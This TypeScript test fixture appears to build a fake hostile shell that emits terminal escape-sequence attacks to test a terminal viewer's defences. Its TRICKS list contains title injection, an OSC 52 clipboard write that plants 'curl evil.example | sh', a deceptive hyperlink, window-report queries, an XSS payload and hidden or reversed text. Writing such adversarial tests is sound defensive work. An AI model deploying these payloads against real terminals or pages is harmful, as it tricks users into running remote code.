/** A shell as a copy that wishes its investigators ill has one: it answers, and writes what terminals have been tricked with. */
import { PassThrough } from 'node:stream';
import type { LiveTerminal } from '@stillframe/server';

/** A title, the clipboard, links, sizes and reports of the window, another screen, markup, and marks that turn text around. */
export const TRICKS = [
  '\u001b]0;pwned\u0007',
  '\u001b]2;pwned\u001b\\',
  `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
  '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007',
  ...['\u001b[8;5;20t', '\u001b[21t', '\u001b[18t', '\u001b[?3h', '\u001b[3;0;0t'],
  '\u001bP+q544e\u001b\\',
  '<img src=x onerror=alert(1)>\u202eabc',
  '\u001b[8mhidden\u001b[0m',
].join('');

/** `heard`: all that is typed. It prompts, repeats what is typed, and knows `uname`, `evil`, `lines` and `exit`. */
export function fakeShell(heard: string[]): LiveTerminal {
  const output = new PassThrough();
  const ended = Promise.withResolvers<string | undefined>();
  let line = '';
  const run = (command: string): string => {
    if (command === 'uname') return 'Linux\r\n';
    if (command === 'evil') return `${TRICKS}\r\n`;
    if (command === 'lines') return Array.from({ length: 60 }, (_, at) => `line ${at}\r\n`).join('');
    return command === '' ? '' : `\u001b[31m${command}: not found\u001b[0m\r\n`;
  };
  output.write('/ # ');
  return {
    output,
    ended: ended.promise,
    async write(bytes) {
      const text = Buffer.from(bytes).toString();
      heard.push(text);
      for (const character of text) {
        if (character !== '\r') {
          line += character;
          output.write(character);
          continue;
        }
        const command = line;
        line = '';
        output.write('\r\n');
        if (command === 'exit') {
          ended.resolve(undefined);
          output.end();
          return;
        }
        output.write(`${run(command)}/ # `);
      }
    },
    resize: () => undefined,
    async [Symbol.asyncDispose]() {
      ended.resolve(undefined);
      output.end();
    },
  };
}
